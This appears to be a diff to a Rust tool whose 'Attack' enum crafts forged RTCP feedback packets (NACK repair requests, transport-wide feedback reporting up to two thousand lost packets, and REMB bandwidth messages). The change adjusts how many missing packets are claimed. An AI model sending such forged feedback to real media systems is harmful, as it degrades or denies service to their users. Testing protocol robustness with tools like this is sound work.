@@ -9,7 +9,7 @@ const LARGEST: usize = 1400;
 pub enum Attack {
     /// Requests for packets, each message for seventeen.
     Repairs,
-    /// Transport-wide feedback, each message on two thousand packets, none of which has arrived.
+    /// Transport-wide feedback, each message on two thousand packets, or all there are, none of which has arrived.
     Arrivals,
     /// Bandwidths (REMB).
     Bandwidths,
@@ -48,8 +48,8 @@ impl Attack {
                 [&head([0x81, 205], 3)[..], &ssrc, &first, &[0xff, 0xff]].concat()
             }
             Self::Arrivals => {
-                let count: u16 = 2000;
-                let base = number.wrapping_sub(count).to_be_bytes();
+                let count = number.clamp(1, 2000);
+                let base = number.wrapping_sub(count - 1).to_be_bytes();
                 // One chunk: a run of packets that have not arrived.
                 [
                     &head([0x8f, 205], 5)[..],
